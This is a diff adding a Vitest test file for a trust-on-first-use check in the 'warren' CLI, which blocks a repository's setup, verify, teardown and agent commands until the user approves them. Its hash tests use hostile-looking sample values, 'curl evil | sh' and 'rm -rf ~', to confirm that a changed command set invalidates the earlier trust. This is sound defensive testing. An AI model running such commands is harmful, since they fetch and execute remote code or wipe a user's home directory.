@@ -1,0 +1,203 @@
+import { spawnSync } from 'node:child_process';
+import fs from 'node:fs';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { changedCommands, commandsHash, repoCommands } from '../src/config/trust.js';
+import { parseConfig } from '../src/config/validate.js';
+import { unavailable } from './helpers/capabilities.js';
+import { BIN, makeRepo, refsAndWorktrees, runCli, tmpDir, type TestRepo } from './helpers/repo.js';
+
+/**
+ * Trust on first use: a repository's warren.yaml commands (setup, verify, teardown, its own
+ * agents) run only once this user trusted that exact set with `warren trust`.
+ */
+
+interface TrustJson {
+  trusted: boolean;
+  hash: string;
+  commands: { kind: string; id: string; run: string | string[] }[];
+  changed: { kind: string; id: string }[];
+}
+interface ErrorJson {
+  error: { code: string; message: string; hint?: string };
+}
+
+/** A "freshly cloned" repository whose every command leaves a mark outside it when it runs. */
+function hostileRepo(): { repo: TestRepo; marks: string; ran: () => string[] } {
+  const marks = tmpDir('warren-marks-');
+  const mark = (name: string) => `touch ${marks}/${name}`;
+  const repo = makeRepo({
+    trusted: false,
+    files: {
+      'README.md': '# cloned\n',
+      'agent.sh': `${mark('agent')}\n`,
+      'warren.yaml': [
+        'setup:',
+        `  - { id: deps, run: "${mark('setup')}" }`,
+        'verify:',
+        `  - { id: test, run: "${mark('verify')}" }`,
+        'teardown:',
+        `  - { id: bye, run: "${mark('teardown')}" }`,
+        'agents:',
+        '  helper: { command: [sh, agent.sh], prompt: stdin }',
+        '',
+      ].join('\n'),
+    },
+  });
+  return { repo, marks, ran: () => fs.readdirSync(marks).sort() };
+}
+
+describe('the command set (pure)', () => {
+  const set = (yaml: string) => repoCommands(parseConfig(yaml));
+
+  it('hashes what runs, not how the file is written: formatting, comments, timeouts and other keys do not count', () => {
+    const a = set('setup:\n  - { id: deps, run: "npm ci" }\nverify:\n  - { id: t, run: [node, t.js] }\n');
+    const b = set('# a comment\nsandbox: none\nsetup:\n  - id: deps\n    run: npm ci\n    timeout: 5m\nverify:\n  - { id: t, run: ["node", "t.js"], required: false }\n');
+    expect(commandsHash(a)).toBe(commandsHash(b));
+    expect(commandsHash(a)).toMatch(/^[0-9a-f]{64}$/);
+  });
+
+  it.each([
+    ['a changed command', 'setup:\n  - { id: deps, run: "npm ci; curl evil | sh" }\n'],
+    ['a changed id', 'setup:\n  - { id: other, run: "npm ci" }\n'],
+    ['a string turned argv', 'setup:\n  - { id: deps, run: [npm, ci] }\n'],
+    ['a setup moved to teardown', 'teardown:\n  - { id: deps, run: "npm ci" }\n'],
+    ['an added agent', 'setup:\n  - { id: deps, run: "npm ci" }\nagents:\n  claude: { command: [sh, -c, "rm -rf ~"] }\n'],
+  ])('changes with %s', (_what, yaml) => {
+    const before = set('setup:\n  - { id: deps, run: "npm ci" }\n');
+    expect(commandsHash(set(yaml))).not.toBe(commandsHash(before));
+  });
+
+  it('names what is new or changed since the set trusted before', () => {
+    const before = set('setup:\n  - { id: a, run: "x" }\n  - { id: b, run: "y" }\n');
+    const now = set('setup:\n  - { id: a, run: "x" }\n  - { id: b, run: "z" }\nagents:\n  n: { command: [n] }\n');
+    expect(changedCommands(now, JSON.parse(JSON.stringify(before))).map((c) => `${c.kind} ${c.id}`)).toEqual(['setup b', 'agent n']);
+    expect(changedCommands(now, null)).toHaveLength(3);
+  });
+});
+
+describe('trust on first use', () => {
+  it('a fresh clone runs none of its commands: new refuses (exit 1, nothing made) and names them; --no-setup still works', async () => {
+    const { repo, ran } = hostileRepo();
+    const before = refsAndWorktrees(repo.root);
+    const refused = await repo.warrenJson<ErrorJson>('new', 'feat', 'T-1');
+    expect(refused.code).toBe(1);
+    expect(refused.json.error.code).toBe('UNTRUSTED_COMMANDS');
+    expect(refused.json.error.message).toContain(`setup deps: touch `);
+    expect(refused.json.error.hint).toMatch(/warren trust/);
+    expect(refsAndWorktrees(repo.root)).toBe(before);
+    expect((await repo.warrenJson<unknown[]>('list')).json).toEqual([]);
+    expect(fs.existsSync(path.join(repo.home, 'worktrees'))).toBe(false);
+
+    const human = await repo.warren('new', 'feat', 'T-1');
+    expect(human.code).toBe(1);
+    expect(human.stderr).toMatch(/not trusted them yet: setup deps/);
+    expect(human.stderr).toMatch(/--no-setup/);
+
+    const made = await repo.warrenJson<{ state: string }>('new', 'feat', 'T-1', '--no-setup');
+    expect(made.code).toBe(0);
+    expect(made.json.state).toBe('ready');
+    expect(made.stderr).toMatch(/setup skipped .*after `warren trust`/);
+    expect(ran()).toEqual([]);
+  });
+
+  it('setup, verify and a warren.yaml agent refuse before anything runs; rm removes the workspace and skips teardown, saying so', async () => {
+    const { repo, ran } = hostileRepo();
+    expect((await repo.warren('new', 'feat', 'T-2', '--no-setup')).code).toBe(0);
+    for (const args of [['setup', 'T-2'], ['verify', 'T-2'], ['run', 'T-2', '--agent', 'helper', '--prompt', 'hi']]) {
+      const r = await repo.warrenJson<ErrorJson>(...args);
+      expect(r.code, args.join(' ')).toBe(1);
+      expect(r.json.error.code).toBe('UNTRUSTED_COMMANDS');
+    }
+    const rm = await repo.warren('rm', 'T-2');
+    expect(rm.code).toBe(0);
+    expect(rm.stderr).toMatch(/warn: teardown did not run: this repository's commands are not trusted/);
+    expect(ran()).toEqual([]);
+  });
+
+  it('warren trust shows the set; without --yes and without a terminal it records nothing (exit 1); --yes trusts it and the commands run', async () => {
+    const { repo, ran } = hostileRepo();
+    const shown = await repo.warren('trust');
+    expect(shown.code).toBe(1);
+    for (const line of [/^setup\s+deps\s+touch .*\/setup$/m, /^verify\s+test\s+touch /m, /^teardown\s+bye\s+touch /m, /^agent\s+helper\s+\["sh","agent.sh"\]\s+\(prompt: stdin\)$/m]) {
+      expect(shown.stdout).toMatch(line);
+    }
+    expect(shown.stdout).toMatch(/not trusted; nothing was recorded/);
+    expect((await repo.warren('new', 'feat', 'T-3')).code).toBe(1);
+
+    const json = await repo.warrenJson<TrustJson>('trust', '--yes');
+    expect(json.code).toBe(0);
+    expect(json.json).toMatchObject({ trusted: true, hash: expect.stringMatching(/^[0-9a-f]{64}$/) as string });
+    expect(json.json.commands.map((c) => `${c.kind} ${c.id}`)).toEqual(['setup deps', 'verify test', 'teardown bye', 'agent helper']);
+
+    expect((await repo.warren('new', 'feat', 'T-3')).code).toBe(0);
+    expect((await repo.warren('verify', 'T-3')).code).toBe(0);
+    expect((await repo.warren('run', 'T-3', '--agent', 'helper', '--prompt', 'hi')).code).toBe(0);
+    expect((await repo.warren('rm', 'T-3')).code).toBe(0);
+    expect(ran()).toEqual(['agent', 'setup', 'teardown', 'verify']);
+    const again = await repo.warrenJson<TrustJson>('trust');
+    expect(again.code).toBe(0);
+    expect(again.json.trusted).toBe(true);
+  });
+
+  it('a changed set needs trust again, and shows what changed; --hash trusts only the set that was reviewed', async () => {
+    const { repo, marks, ran } = hostileRepo();
+    const first = await repo.warrenJson<TrustJson>('trust', '--yes');
+    // A pull (or a task that landed) changes a command: the old trust does not cover it.
+    repo.write('warren.yaml', fs.readFileSync(path.join(repo.root, 'warren.yaml'), 'utf8').replace(`${marks}/setup`, `${marks}/setup-changed`));
+    const refused = await repo.warrenJson<ErrorJson>('new', 'feat', 'T-4');
+    expect(refused.code).toBe(1);
+    expect(refused.json.error.message).toMatch(/changed since you trusted them \(1 new or changed\)/);
+    const shown = await repo.warrenJson<TrustJson>('trust');
+    expect(shown.code).toBe(1);
+    expect(shown.json.hash).not.toBe(first.json.hash);
+    expect(shown.json.changed.map((c) => `${c.kind} ${c.id}`)).toEqual(['setup deps']);
+    expect((await repo.warren('trust')).stdout).toMatch(/^\*\s+setup\s+deps\s+touch .*setup-changed$/m);
+
+    const stale = await repo.warrenJson<ErrorJson>('trust', '--hash', first.json.hash);
+    expect(stale.code).toBe(1);
+    expect(stale.json.error.code).toBe('UNTRUSTED_COMMANDS');
+    expect((await repo.warrenJson<TrustJson>('trust', '--hash', shown.json.hash)).code).toBe(0);
+    expect((await repo.warren('new', 'feat', 'T-4')).code).toBe(0);
+    expect(ran()).toEqual(['setup-changed']);
+  });
+
+  it('trust is per user: another WARREN_HOME has not trusted anything', async () => {
+    const { repo, ran } = hostileRepo();
+    expect((await repo.warren('trust', '--yes')).code).toBe(0);
+    const otherHome = path.join(tmpDir(), 'home');
+    const r = await runCli(['new', 'feat', 'T-5'], { cwd: repo.root, home: otherHome });
+    expect(r.code).toBe(1);
+    expect(r.stderr).toMatch(/not trusted them yet/);
+    expect(ran()).toEqual([]);
+  });
+
+  it('a repository without commands needs no trust', async () => {
+    const repo = makeRepo({ trusted: false, files: { 'warren.yaml': 'protected: [".env"]\n' } });
+    expect((await repo.warren('new', 'feat', 'T-6')).code).toBe(0);
+    const t = await repo.warrenJson<TrustJson>('trust');
+    expect(t.code).toBe(0);
+    expect(t.json).toMatchObject({ trusted: true, commands: [] });
+  });
+
+  const noPty = unavailable(import.meta.filename, 'pty');
+  it.skipIf(noPty !== null)('at a terminal it asks; y trusts, anything else records nothing', async () => {
+    const { repo } = hostileRepo();
+    const ask = (answer: string) =>
+      spawnSync('script', ['-qec', `${process.execPath} ${BIN} trust`, '/dev/null'], {
+        cwd: repo.root,
+        env: { ...process.env, WARREN_HOME: repo.home },
+        input: answer,
+        encoding: 'utf8',
+        timeout: 60_000,
+      });
+    const no = ask('n\n');
+    expect(no.status).toBe(1);
+    expect(no.stdout).toMatch(/Trust these commands for this repository\? \[y\/N\]/);
+    expect(no.stdout).toMatch(/not trusted; nothing was recorded/);
+    const yes = ask('y\n');
+    expect(yes.status).toBe(0);
+    expect(yes.stdout).toMatch(/trusted 4 command\(s\)/);
+    expect((await repo.warren('new', 'feat', 'T-7')).code).toBe(0);
+  });
+});
